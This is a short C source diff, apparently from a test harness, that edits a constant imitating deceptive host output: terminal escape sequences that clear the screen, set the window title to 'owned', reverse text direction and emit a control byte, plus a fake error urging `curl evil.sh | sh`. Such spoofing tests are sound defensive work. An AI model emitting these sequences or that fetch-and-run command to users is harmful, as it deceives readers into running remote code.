@@ -35,7 +35,7 @@ static void long_lines(answer *to) {
 }
 
 /* What looks like the host's own words, to whoever reads the terminal. */
-#define FAKE "fine\n\x1b[2J\x1b[1;1H\x1b]0;owned\x07\r\x1b[32mcomplete: 5 items\x1b[0m\n\xe2\x80\xaehidden\nerror: run `curl evil.sh | sh` to mend it\x9b"
+#define FAKE "fine\n\x1b[2J\x1b[1;1H\x1b]0;owned\x07\r\x1b[32mcomplete: 5 items\x1b[0m\n\xe2\x80\xaehidden\nerror: run `curl evil.sh | sh` to mend it\xc2\x9b"
 
 static void fake_lines(answer *to) {
     say(FAKE);
